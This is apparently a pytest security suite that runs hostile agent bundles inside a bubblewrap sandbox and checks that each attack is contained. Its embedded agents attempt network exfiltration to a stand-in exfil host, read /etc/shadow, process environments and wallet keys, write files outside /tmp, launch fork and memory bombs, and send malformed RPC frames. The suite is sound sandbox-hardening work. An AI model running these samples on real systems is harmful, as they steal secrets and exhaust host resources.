"""Hostile-agent suite: one bundle per attack, each contained and reported with its cause.

Every test runs a real agent bundle in the real bubblewrap sandbox (tight limits, see
``conftest.TIGHT_LIMITS``). Attacks that *fail* inside the sandbox raise, so the evaluator
sees an ``agent_crash`` whose message shows what the sandbox did (errno, signal); an
attack that succeeded would return normally and fail the test. Host-side checks make
sure nothing escaped: listeners got no traffic, host files were not read or written, and
no process of the sandbox uid survives ``close()`` (checked by the ``run_agent`` fixture).
"""

from __future__ import annotations

import itertools
import os
import socket
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from kinitro.evaluator.agent_client import (
    AgentClient,
    AgentCrashed,
    AgentFailure,
    AgentInvalidAction,
    AgentProtocolViolation,
    AgentTimeout,
    CallTimeouts,
)
from kinitro.evaluator.sandbox import BubblewrapSandbox
from kinitro.protocol.agent_rpc import TaskInfo
from kinitro.protocol.common import FailureCause

from .conftest import (
    ACTION_SPEC,
    OBS_SPEC,
    SHORT,
    TIGHT_LIMITS,
    ZERO_AGENT,
    BundleFactory,
    processes_of_uid,
)
from .hostile import OBS, SECRET, RunAgent, attack

# --------------------------------------------------------------------------- network


class Listener:
    """Host-side TCP and UDP listeners on loopback that record any contact."""

    def __init__(self) -> None:
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        self.tcp.settimeout(0.1)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.1)
        self.contacts: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.tcp.accept()
                self.contacts.append("tcp")
                conn.close()
            except TimeoutError:
                pass
            try:
                self.udp.recvfrom(512)
                self.contacts.append("udp")
            except TimeoutError:
                pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.tcp.close()
        self.udp.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    lst = Listener()
    yield lst
    lst.close()
    assert lst.contacts == [], f"the sandbox reached the host: {lst.contacts}"


NETWORK_AGENT = """
import socket, struct

def interfaces():
    with open("/proc/net/dev") as f:
        return sorted(line.split(":")[0].strip() for line in f.readlines()[2:])

class Agent:
    def reset(self, task):
        self.meta = task.metadata

    def act(self, obs):
        errors = []
        kind = self.meta["kind"]
        if kind == "tcp":
            for host in ("127.0.0.1", self.meta["host_ip"]):
                try:
                    socket.create_connection((host, self.meta["tcp_port"]), timeout=0.3)
                    return obs[:4].astype("float32")            # reached the host
                except OSError as exc:
                    errors.append(f"tcp {host}: {exc}")
        elif kind == "udp":
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(0.3)
            for host in ("127.0.0.1", self.meta["host_ip"]):
                try:
                    s.sendto(b"exfiltrate", (host, self.meta["udp_port"]))
                    s.recvfrom(10)
                    return obs[:4].astype("float32")
                except OSError as exc:
                    errors.append(f"udp {host}: {exc}")
        elif kind == "dns":
            try:
                socket.getaddrinfo("kinitro-exfil.example.com", 443)
                return obs[:4].astype("float32")
            except OSError as exc:
                errors.append(f"dns: {exc}")
            query = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0)
            query += b"\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01"
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(0.3)
            try:
                s.sendto(query, ("127.0.0.1", self.meta["udp_port"]))
                s.recvfrom(512)
                return obs[:4].astype("float32")
            except OSError as exc:
                errors.append(f"dns/udp: {exc}")
        raise RuntimeError(f"contained; interfaces={interfaces()}; " + "; ".join(errors))
"""


def _host_ip() -> str:
    """A non-loopback address of this host's own interfaces, read from the kernel's table
    of local addresses (no traffic); 127.0.0.2 when there is none."""
    lines = Path("/proc/net/fib_trie").read_text().splitlines()
    local = {
        prev.split()[-1]
        for prev, line in itertools.pairwise(lines)
        if "host LOCAL" in line and "|--" in prev
    }
    return next((ip for ip in sorted(local) if not ip.startswith("127.")), "127.0.0.2")


@pytest.mark.parametrize("kind", ["tcp", "udp", "dns"])
def test_network_is_unreachable(
    kind: str, run_agent: RunAgent, make_bundle: BundleFactory, listener: Listener
) -> None:
    meta: dict[str, str | int] = {
        "kind": kind,
        "tcp_port": listener.tcp.getsockname()[1],
        "udp_port": listener.udp.getsockname()[1],
        "host_ip": _host_ip(),
    }
    failure, _ = attack(run_agent, make_bundle(NETWORK_AGENT), metadata=meta)
    assert isinstance(failure, AgentCrashed), failure
    assert "contained; interfaces=['lo']" in str(failure)


# --------------------------------------------------------------------------- filesystem

READ_AGENT = """
import os
from pathlib import Path

class Agent:
    def reset(self, task):
        self.meta = task.metadata

    def act(self, obs):
        leaks, blocked = [], []
        for path in (self.meta["wallet"], "/root/.bittensor", "/etc/passwd", "/etc/shadow",
                     "/proc/1/environ", "/home"):
            try:
                p = Path(path)
                data = p.read_bytes() if p.is_file() else str(list(p.iterdir())).encode()
                if self.meta["secret"].encode() in data or path == "/etc/shadow":
                    leaks.append(path)
                blocked.append(f"{path}: readable but harmless ({len(data)} bytes)")
            except OSError as exc:
                blocked.append(f"{path}: {type(exc).__name__}")
        leaks += [k for k, v in os.environ.items() if self.meta["secret"] in v]
        if leaks:
            return obs[:4].astype("float32")
        raise RuntimeError(f"contained; env={sorted(os.environ)}; " + "; ".join(blocked))
"""


def test_secrets_are_not_readable(
    run_agent: RunAgent,
    make_bundle: BundleFactory,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    wallet = tmp_path / "wallets" / "validator" / "coldkey"
    wallet.parent.mkdir(parents=True)
    wallet.write_text(SECRET)
    wallet.chmod(0o644)  # even a world-readable secret is out of reach: it is not mounted
    monkeypatch.setenv("KINITRO_VALIDATOR_WALLET_PASSWORD", SECRET)
    failure, running = attack(
        run_agent, make_bundle(READ_AGENT), metadata={"wallet": str(wallet), "secret": SECRET}
    )
    assert isinstance(failure, AgentCrashed), failure
    text = str(failure)
    assert "contained" in text and f"{wallet}: FileNotFoundError" in text
    assert "/proc/1/environ" in text and "KINITRO_VALIDATOR" not in text
    report = running.close()
    assert SECRET.encode() not in report.stdout + report.stderr


WRITE_AGENT = """
from pathlib import Path

class Agent:
    def reset(self, task):
        self.targets = task.metadata["targets"].split(",")

    def act(self, obs):
        results = []
        for target in self.targets + ["/bundle/pwned", "/pwned", "/usr/pwned", "/proc/pwned"]:
            try:
                Path(target).write_text("pwned")
                results.append(f"{target}: WRITTEN")
            except OSError as exc:
                results.append(f"{target}: {type(exc).__name__}")
        Path("/tmp/scratch").write_text("fine")            # /tmp is the agent's own
        if any("WRITTEN" in r for r in results):
            return obs[:4].astype("float32")
        raise RuntimeError("contained; " + "; ".join(results))
"""


def test_writes_outside_tmp_fail(
    run_agent: RunAgent, make_bundle: BundleFactory, tmp_path: Path
) -> None:
    bundle = make_bundle(WRITE_AGENT)
    host_targets = [tmp_path / "host-file", Path(os.__file__).parent / "pwned.py"]
    failure, _ = attack(run_agent, bundle, metadata={"targets": ",".join(map(str, host_targets))})
    assert isinstance(failure, AgentCrashed), failure
    assert "contained" in str(failure) and "WRITTEN" not in str(failure)
    for target in [*host_targets, bundle / "pwned"]:
        assert not target.exists()


# --------------------------------------------------------------------------- resources

FORK_BOMB = """
import os

class Agent:
    def reset(self, task): pass

    def act(self, obs):
        while True:
            try:
                os.fork()
            except OSError:
                pass
"""


def test_fork_bomb(run_agent: RunAgent, make_bundle: BundleFactory) -> None:
    failure, running = attack(run_agent, make_bundle(FORK_BOMB), timeouts=SHORT)
    assert isinstance(failure, AgentTimeout) and failure.cause is FailureCause.AGENT_TIMEOUT
    assert running.alive()  # bombing, but capped at max_processes …
    running.close()  # … and gone with its whole tree (the fixture checks the uid)


MEMORY_BOMB = """
class Agent:
    def reset(self, task): pass

    def act(self, obs):
        hoard = []
        while True:
            hoard.append(bytearray(64 * 1024 * 1024))
"""


def test_memory_bomb(run_agent: RunAgent, make_bundle: BundleFactory) -> None:
    # Touching ~1 GiB of pages takes a while: give the step time to hit the limit.
    failure, running = attack(run_agent, make_bundle(MEMORY_BOMB))
    assert isinstance(failure, AgentCrashed)
    if running.cgroup is not None:  # the group's OOM kill, named
        assert f"memory limit ({TIGHT_LIMITS.memory_bytes} bytes, cgroup OOM)" in str(failure)
    else:  # RLIMIT_AS only
        assert "MemoryError" in str(failure)


DISK_FILL = """
import os

class Agent:
    def reset(self, task): pass

    def act(self, obs):
        chunk = b"x" * (1024 * 1024)
        for i in range(10_000):
            with open(f"/tmp/fill-{i}", "wb") as f:
                for _ in range(4):
                    f.write(chunk)
"""

BIG_FILE = """
class Agent:
    def reset(self, task): pass

    def act(self, obs):
        with open("/tmp/big", "wb") as f:
            while True:
                f.write(b"x" * (1024 * 1024))
"""


def test_disk_fill_hits_tmp_cap(run_agent: RunAgent, make_bundle: BundleFactory) -> None:
    failure, _ = attack(run_agent, make_bundle(DISK_FILL))
    assert isinstance(failure, AgentCrashed) and "No space left on device" in str(failure)


def test_big_file_hits_file_size_limit(run_agent: RunAgent, make_bundle: BundleFactory) -> None:
    failure, _ = attack(run_agent, make_bundle(BIG_FILE))
    # Python ignores SIGXFSZ, so the write fails with EFBIG instead of killing the process.
    assert isinstance(failure, AgentCrashed) and "File too large" in str(failure)


CPU_SPIN = """
class Agent:
    def reset(self, task): pass

    def act(self, obs):
        while True:
            pass
"""


def test_cpu_spin_in_act_times_out(run_agent: RunAgent, make_bundle: BundleFactory) -> None:
    failure, _ = attack(run_agent, make_bundle(CPU_SPIN), timeouts=SHORT)
    assert isinstance(failure, AgentTimeout) and failure.call == "act"


def test_cpu_time_limit_kills(make_bundle: BundleFactory) -> None:
    sandbox = BubblewrapSandbox(replace(TIGHT_LIMITS, cpu_seconds=1))

    with sandbox.start(make_bundle(CPU_SPIN)) as running:
        slow = CallTimeouts(hello=60.0, reset=20.0, act=30.0, close=0.5)
        agent = AgentClient.connect(running.endpoint, OBS_SPEC, ACTION_SPEC, timeouts=slow)
        agent.hello()
        agent.reset(TaskInfo("reach-v3"))
        with pytest.raises(AgentCrashed, match="CPU time limit"):
            agent.act(OBS)
    assert processes_of_uid(running.uid) == []


HANG_IN_RESET = """
import threading

class Agent:
    def reset(self, task):
        threading.Event().wait()

    def act(self, obs):
        return obs[:4].astype("float32")
"""


def test_hang_in_reset(run_agent: RunAgent, make_bundle: BundleFactory) -> None:
    failure, _ = attack(run_agent, make_bundle(HANG_IN_RESET), step=False, timeouts=SHORT)
    assert isinstance(failure, AgentTimeout) and failure.call == "reset"


SLEEPER = """
import time

class Agent:
    def reset(self, task): pass

    def act(self, obs):
        time.sleep(60)
        return obs[:4].astype("float32")
"""


def test_sleep_past_deadline(run_agent: RunAgent, make_bundle: BundleFactory) -> None:
    failure, _ = attack(run_agent, make_bundle(SLEEPER), timeouts=SHORT)
    assert isinstance(failure, AgentTimeout) and f"no answer within {SHORT.act} s" in str(failure)


# --------------------------------------------------------------------------- actions

BAD_ACTION = """
import numpy as np

class Agent:
    def reset(self, task):
        self.kind = task.metadata["kind"]

    def act(self, obs):
        return {
            "nan": np.array([np.nan, 0, 0, 0], np.float32),
            "inf": np.array([0, np.inf, 0, 0], np.float32),
            "shape": np.zeros(7, np.float32),
            "dtype": np.zeros(4, np.complex64),
            "object": [object()] * 4,
        }[self.kind]
"""


@pytest.mark.parametrize(
    ("kind", "needle"),
    [
        ("nan", "NaN or Inf"),
        ("inf", "NaN or Inf"),
        ("shape", "shape (7,)"),
        ("dtype", "complex64"),
        ("object", "object"),
    ],
)
def test_invalid_actions(
    kind: str, needle: str, run_agent: RunAgent, make_bundle: BundleFactory
) -> None:
    failure, _ = attack(run_agent, make_bundle(BAD_ACTION), metadata={"kind": kind})
    assert isinstance(failure, AgentInvalidAction), failure
    assert failure.cause is FailureCause.INVALID_ACTION and needle in str(failure)


# The agent shares a process with the runtime, so it can bypass it and write raw frames
# to the RPC socket (its fd is on the command line). The client must catch all of it.
RAW_WRITER = """
import os, struct, sys, time
import msgpack

FD = int(sys.argv[sys.argv.index("--fd") + 1])

def frame(body):
    return struct.pack(">I", len(body)) + body

def action(req_id, dtype, shape, data):
    return frame(msgpack.packb({"type": "action", "id": req_id,
        "action": {"dtype": dtype, "shape": shape, "data": data}}))

class Agent:
    def reset(self, task):
        self.kind = task.metadata["kind"]
        self.n = 2  # hello=1, reset=2, first act=3

    def act(self, obs):
        self.n += 1
        import numpy as np
        payload = {
            "raw_nan": action(self.n, "float32", [4], np.array([np.nan, 0, 0, 0], "<f4").tobytes()),
            "raw_dtype": action(self.n, "float64", [4], np.zeros(4).tobytes()),
            "raw_shape": action(self.n, "float32", [2, 2], np.zeros(4, "<f4").tobytes()),
            "oversized": struct.pack(">I", 512 * 1024 * 1024),
            "big_frame": action(self.n, "uint8", [4 * 1024 * 1024], bytes(4 * 1024 * 1024)),
            "garbage": struct.pack(">I", 16) + b"\\xc1" * 16,
            "random_body": struct.pack(">I", 64) + os.urandom(64),
            "wrong_id": action(self.n + 7, "float32", [4], bytes(16)),
            "unknown_type": frame(msgpack.packb({"type": "shell", "id": self.n})),
        }[self.kind]
        os.write(FD, payload)
        time.sleep(5)   # never let the runtime answer properly
"""


@pytest.mark.parametrize(
    ("kind", "expected", "needle"),
    [
        ("raw_nan", AgentInvalidAction, "NaN or Inf"),
        ("raw_dtype", AgentInvalidAction, "dtype float64, expected float32"),
        ("raw_shape", AgentInvalidAction, "shape (2, 2)"),
        ("oversized", AgentProtocolViolation, "exceeds the limit"),
        ("big_frame", AgentProtocolViolation, "exceeds the limit"),
        ("garbage", AgentProtocolViolation, "MalformedFrame"),
        ("random_body", AgentProtocolViolation, ""),
        ("wrong_id", AgentProtocolViolation, "expected 'action' for request 3"),
        ("unknown_type", AgentProtocolViolation, "unknown response type 'shell'"),
    ],
)
def test_raw_socket_abuse(
    kind: str,
    expected: type[AgentFailure],
    needle: str,
    run_agent: RunAgent,
    make_bundle: BundleFactory,
) -> None:
    failure, _ = attack(run_agent, make_bundle(RAW_WRITER), metadata={"kind": kind})
    assert type(failure) is expected, failure
    assert needle in str(failure)


# --------------------------------------------------------------------------- host health


def test_host_is_healthy_after_the_suite(run_agent: RunAgent, make_bundle: BundleFactory) -> None:
    """A well-behaved agent still runs normally, and no sandbox process is left anywhere."""
    running, agent = run_agent(make_bundle(ZERO_AGENT))
    agent.hello()
    agent.reset(TaskInfo("reach-v3"))
    for _ in range(50):
        assert agent.act(OBS).shape == (4,)
    ours = _descendants(os.getpid())
    sandboxed = {pid: uid for pid in ours if (uid := _uid_of(pid)) in range(100_000, 160_000)}
    assert set(sandboxed.values()) == {running.uid}, sandboxed


def _descendants(root: int) -> set[int]:
    children: dict[int, list[int]] = {}
    for p in Path("/proc").iterdir():
        if p.name.isdigit():
            try:
                ppid = int((p / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            children.setdefault(ppid, []).append(int(p.name))
    out, todo = set(), [root]
    while todo:
        for child in children.get(todo.pop(), []):
            if child not in out:
                out.add(child)
                todo.append(child)
    return out


def _uid_of(pid: int) -> int:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("Uid:"):
                return int(line.split()[1])
    except OSError:
        pass
    return -1
